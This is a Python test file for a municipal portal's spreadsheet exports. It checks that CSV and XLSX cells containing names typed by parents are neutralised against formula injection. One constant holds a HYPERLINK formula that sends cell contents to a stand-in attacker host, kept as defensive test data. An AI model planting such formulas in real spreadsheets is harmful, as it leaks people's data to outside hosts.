"""Formulas typed in names never run in the mairie's spreadsheet."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from portal.spreadsheets import FORMULA_TRIGGERS, csv_text, neutralise, xlsx_bytes
from tenants.models import Role
from tests.factories import ChildFactory, MembershipFactory

HOSTILE = '=HYPERLINK("http://pirate.example/?"&A1;"Léa")'


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_trigger_gets_a_leading_apostrophe(trigger):
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"


@given(st.text())
def test_no_neutralised_text_starts_a_formula(text):
    value = neutralise(text)
    assert not value.startswith(FORMULA_TRIGGERS)
    assert value.lstrip("'") == text.lstrip("'") or value == "'" + text


def test_numbers_and_plain_names_are_left_alone():
    assert neutralise(-3) == -3
    assert neutralise("Léa") == "Léa"


def test_csv_and_xlsx_cells_are_inert():
    line = csv_text(["Foyer", "Nom"], [["X", HOSTILE]]).splitlines()[1]
    assert line.startswith("X;\"'=HYPERLINK") or line.startswith("X;'=HYPERLINK")
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["Nom"], [[HOSTILE]]))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"  # text, not a formula
    assert cell.value == "'" + HOSTILE


@pytest.mark.django_db
def test_the_childrens_csv_export_neutralises_names_typed_by_parents(tenant_a, client_a, in_tenant):
    with in_tenant(tenant_a):
        child = ChildFactory(first_name=HOSTILE)
    client_a.force_login(MembershipFactory(collectivite=tenant_a, role=Role.AGENT).user)
    response = client_a.post(
        "/admin/families/child/", {"action": "export_csv", "_selected_action": [child.pk]}
    )
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in body
    assert ";=HYPERLINK" not in body and ';"=HYPERLINK' not in body
